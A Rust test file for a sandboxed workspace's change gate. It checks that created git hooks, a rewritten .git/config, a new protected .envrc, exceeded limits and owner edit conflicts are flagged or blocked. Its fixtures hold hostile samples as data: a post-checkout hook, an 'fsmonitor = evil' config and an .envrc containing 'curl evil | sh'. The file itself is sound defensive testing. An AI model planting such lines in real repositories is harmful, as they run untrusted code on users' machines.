//! The facts the Gate decides on: sensitive paths, `.git` and protected paths created,
//! limits, conflicts.

use std::time::{Duration, SystemTime};

use airlock_workspace::{ChangeSetOptions, LimitExceeded, Limits, WorkspaceError};

use super::fixture::{fx, meta};

#[test]
fn creating_git_hooks_where_there_was_no_git_is_flagged() {
    let f = fx();
    f.put("README", b"x");
    f.overlay("mkdir -p .git/hooks && printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout");
    let s = f.compute().summary();
    assert!(s.creates_git);
    assert!(s.touches_sensitive);
    assert!(
        s.sensitive_paths
            .iter()
            .any(|p| p == ".git/hooks/post-checkout"),
        "{:?}",
        s.sensitive_paths
    );
}

#[test]
fn a_nested_git_is_flagged_and_an_existing_one_only_touched() {
    let f = fx();
    f.put("vendor/lib/code.c", b"int x;");
    f.overlay("mkdir vendor/lib/.git && echo '[core]' > vendor/lib/.git/config");
    let s = f.compute().summary();
    assert!(s.creates_git, "nested .git");
    let g = fx();
    g.put(".git/config", b"[core]\n");
    g.overlay("echo '[core] fsmonitor = evil' > .git/config");
    let s = g.compute().summary();
    assert!(!s.creates_git, "the .git existed");
    assert!(s.touches_sensitive);
}

#[test]
fn a_protected_envrc_that_did_not_exist_is_flagged() {
    let f = fx();
    f.overlay("echo 'curl evil | sh' > .envrc; echo x > notes.md");
    let opts = ChangeSetOptions::new(&[".envrc".to_string()], None);
    let s = f.compute_with(&opts).summary();
    assert!(s.creates_protected);
    assert!(s.touches_sensitive);
    let plain = f.compute().summary();
    assert!(!plain.creates_protected, "not protected unless listed");
    assert!(
        plain.touches_sensitive,
        ".envrc is on the default sensitive list"
    );
    let none = fx();
    none.overlay("echo x > notes.md");
    let s = none.compute_with(&opts).summary();
    assert!(!s.touches_sensitive && !s.creates_protected && !s.creates_git);
}

#[test]
fn limits_flag_the_whole_change_and_an_incomplete_scan_cannot_commit() {
    let f = fx();
    for i in 0..6 {
        f.put(&format!("f{i}"), b"x");
    }
    f.overlay("rm f0 f1 f2; for i in 1 2 3 4; do head -c 1000 /dev/zero > n$i; done");
    let opts = ChangeSetOptions {
        limits: Limits {
            max_bytes_written: 3000,
            max_files_changed: 5,
            max_files_deleted: 2,
            max_scan_entries: 1000,
        },
        ..ChangeSetOptions::default()
    };
    let s = f.compute_with(&opts).summary();
    assert!(
        s.exceeds_limits.contains(&LimitExceeded::BytesWritten {
            limit: 3000,
            actual: 4000
        }),
        "{:?}",
        s.exceeds_limits
    );
    assert!(s.exceeds_limits.contains(&LimitExceeded::FilesChanged {
        limit: 5,
        actual: 7
    }));
    assert!(s.exceeds_limits.contains(&LimitExceeded::FilesDeleted {
        limit: 2,
        actual: 3
    }));
    let tiny = ChangeSetOptions {
        limits: Limits {
            max_scan_entries: 3,
            ..Limits::default()
        },
        ..ChangeSetOptions::default()
    };
    let cs = f.compute_with(&tiny);
    assert!(!cs.complete);
    assert!(cs
        .summary()
        .exceeds_limits
        .contains(&LimitExceeded::ScanEntries { limit: 3 }));
    let ws = f.open();
    let err = ws.commit(&cs, &f.upper, meta("cut")).unwrap_err();
    assert!(matches!(err, WorkspaceError::Incomplete { .. }), "{err}");
    assert_eq!(
        f.read("f0").as_deref(),
        Some(&b"x"[..]),
        "nothing committed"
    );
}

#[test]
fn an_owner_edit_during_the_run_is_a_conflict_and_is_never_overwritten() {
    let f = fx();
    f.put("shared.txt", b"base\n");
    std::thread::sleep(Duration::from_millis(30));
    let started = SystemTime::now();
    std::thread::sleep(Duration::from_millis(30));
    f.overlay("echo run-version > shared.txt; echo other > other.txt");
    // The owner edits the file on the host after the run started.
    f.put("shared.txt", b"owner-version\n");
    let opts = ChangeSetOptions::new(&[], Some(started));
    let cs = f.compute_with(&opts);
    assert_eq!(cs.conflicts.len(), 1, "{:?}", cs.conflicts);
    let s = cs.summary();
    assert_eq!(s.conflicts, vec!["shared.txt".to_string()]);
    let r = cs.render();
    assert!(r.contains("CONFLICT shared.txt"), "{r}");
    // Both versions are shown: the diff runs from the owner's to the run's.
    assert!(
        r.contains("-owner-version") && r.contains("+run-version"),
        "{r}"
    );
    let ws = f.open();
    let err = ws.commit(&cs, &f.upper, meta("conflict")).unwrap_err();
    assert!(matches!(err, WorkspaceError::Conflict { .. }), "{err}");
    assert!(err.to_string().contains("shared.txt") && err.to_string().contains("help:"));
    assert_eq!(
        f.read("shared.txt").as_deref(),
        Some(&b"owner-version\n"[..])
    );
    assert_eq!(f.read("other.txt"), None, "nothing of the run committed");
}

/// The owner deletes a file on the host while the run is changing it: the commit is a
/// conflict and never brings the file back. A file the run itself renamed is not one; a
/// file it renamed *and* changed cannot be told from the owner's deletion, and is held.
#[test]
fn an_owner_deletion_during_the_run_is_a_conflict_and_a_rename_by_the_run_is_not() {
    let run = "echo run-line >> notes.txt; mv old-name.txt new-name.txt";
    let f = fx();
    f.put("notes.txt", b"base\n");
    f.put("old-name.txt", b"moved\n");
    std::thread::sleep(Duration::from_millis(30));
    let started = SystemTime::now();
    std::thread::sleep(Duration::from_millis(30));
    f.overlay(run);
    // The owner removes the file the run was editing.
    std::fs::remove_file(f.ws.join("notes.txt")).unwrap();
    let cs = f.compute_with(&ChangeSetOptions::new(&[], Some(started)));
    let paths: Vec<String> = cs.conflicts.iter().map(|c| c.path.display()).collect();
    assert_eq!(paths, vec!["notes.txt".to_string()], "{:?}", cs.conflicts);
    assert!(cs.conflicts[0].owner.is_none() && cs.conflicts[0].run.is_some());
    let r = cs.render();
    assert!(
        r.contains("CONFLICT notes.txt: gone from the workspace"),
        "{r}"
    );
    let ws = f.open();
    let err = ws.commit(&cs, &f.upper, meta("conflict")).unwrap_err();
    assert!(matches!(err, WorkspaceError::Conflict { .. }), "{err}");
    assert_eq!(f.read("notes.txt"), None, "the owner's deletion stands");

    // Without the owner's deletion, the same run has no conflict and commits.
    let g = fx();
    g.put("notes.txt", b"base\n");
    g.put("old-name.txt", b"moved\n");
    let started = SystemTime::now();
    std::thread::sleep(Duration::from_millis(30));
    g.overlay(run);
    let cs = g.compute_with(&ChangeSetOptions::new(&[], Some(started)));
    assert!(cs.conflicts.is_empty(), "{:?}", cs.conflicts);
    g.open().commit(&cs, &g.upper, meta("rename")).unwrap();
    assert_eq!(g.read("new-name.txt").as_deref(), Some(&b"moved\n"[..]));
    assert_eq!(
        g.read("notes.txt").as_deref(),
        Some(&b"base\nrun-line\n"[..])
    );

    // Renamed and changed: held, as the owner's deletion would be.
    let h = fx();
    h.put("draft.txt", b"d\n");
    let started = SystemTime::now();
    std::thread::sleep(Duration::from_millis(30));
    h.overlay("mv draft.txt final.txt; echo more >> final.txt");
    let cs = h.compute_with(&ChangeSetOptions::new(&[], Some(started)));
    let paths: Vec<String> = cs.conflicts.iter().map(|c| c.path.display()).collect();
    assert_eq!(paths, vec!["final.txt".to_string()]);
}
